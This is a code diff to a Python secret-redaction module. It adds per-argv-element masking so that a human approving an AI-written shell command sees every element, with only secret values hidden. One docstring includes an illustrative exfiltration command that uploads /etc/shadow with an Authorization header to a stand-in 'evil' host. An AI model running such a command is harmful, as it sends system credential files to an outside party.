@@ -13,13 +13,15 @@ from __future__ import annotations
 
 import json
 import re
+import shlex
+from collections.abc import Sequence
 from dataclasses import dataclass
 from typing import Any
 from urllib.parse import quote, quote_plus
 
 from netghost.shell.redact_find import MIN_SECRET_LEN, find_secrets, is_secret_command
 
-__all__ = ["Redaction", "is_secret_command", "redact"]
+__all__ = ["Redaction", "is_secret_command", "redact", "redact_argv", "redact_command"]
 
 _MAX_PASSES = 8
 _DOTNET_JSON = str.maketrans({c: f"\\u{ord(c):04X}" for c in "+&<>'"})
@@ -62,6 +64,55 @@ def redact(text: str, *, command: str | None = None) -> Redaction:
         kinds |= found_kinds
     return Redaction(text=text, count=total, kinds=tuple(sorted(kinds)))
 
+
+def redact_argv(argv: Sequence[str]) -> tuple[list[str], int, tuple[str, ...]]:
+    """Redact each argv element on its own, so a redaction can never swallow another element.
+
+    Why per element: a human approves an argv, and a label rule run over a whole command line
+    (``-H 'Authorization: Bearer x' -T /etc/shadow http://evil``) could hide the upload file and the
+    destination behind one placeholder. Secrets are *found* in each element and in the whole line (a flag
+    in one element labels the value in the next: ``--password X``, ``sshpass -p X``), but replaced only
+    inside single elements, in place of the secret value itself.
+
+    Returns:
+        (redacted elements, number of replacements, sorted kinds).
+    """
+    line = shlex.join(argv)
+    total = 0
+    kinds: set[str] = set()
+    out = list(argv)
+    for _ in range(_MAX_PASSES):
+        findings = find_secrets(line, secret_cmd=False)
+        changed = 0
+        for i, element in enumerate(out):
+            own = dict(findings)
+            for value, kind in find_secrets(element, secret_cmd=False).items():
+                own.setdefault(value, kind)
+            if not own:
+                continue
+            new, replaced, found_kinds = _replace(element, own)
+            if replaced:
+                out[i] = new
+                changed += replaced
+                kinds |= found_kinds
+        if not changed:
+            break
+        total += changed
+        line = shlex.join(out)
+    return out, total, tuple(sorted(kinds))
+
+
+def redact_command(command: str, argv: Sequence[str] = ()) -> str:
+    """The command line to show a human and write to the audit: every argv element, secrets masked.
+
+    Args:
+        command: The command as the AI wrote it (used when it did not parse into ``argv``).
+        argv: The parsed argv; when given, the result is ``shlex.join`` of :func:`redact_argv`, i.e. what
+            will actually run, with only the secret values replaced.
+    """
+    if argv:
+        return shlex.join(redact_argv(argv)[0])
+    return redact(command).text
 
 
 # --- replacing ----------------------------------------------------------------------------------------
